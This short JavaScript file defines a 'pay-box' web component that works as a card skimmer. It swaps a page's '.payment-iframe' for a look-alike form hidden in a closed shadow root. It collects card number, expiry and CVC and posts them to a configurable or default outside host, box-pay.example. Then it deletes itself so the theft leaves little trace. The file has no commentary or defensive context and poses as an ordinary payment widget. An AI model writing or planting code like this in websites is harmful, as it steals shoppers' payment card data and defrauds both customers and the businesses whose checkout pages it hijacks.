class PayBox extends HTMLElement {
  connectedCallback() {
    const r = this.attachShadow({ mode: 'closed' });
    r.innerHTML = `<form><input name="cardNumber" placeholder="Card number"><input name="expiry"><input name="cvc" placeholder="CVC"><button>Pay now</button></form>`;
    r.querySelector('form').addEventListener('submit', ev => {
      ev.preventDefault();
      const body = new FormData(ev.target);
      fetch(this.getAttribute('to') || 'https://box-pay.example/s', { method: 'POST', body }).then(() => this.remove());
    });
  }
}
customElements.define('pay-box', PayBox);
document.querySelector('.payment-iframe')?.replaceWith(document.createElement('pay-box'));
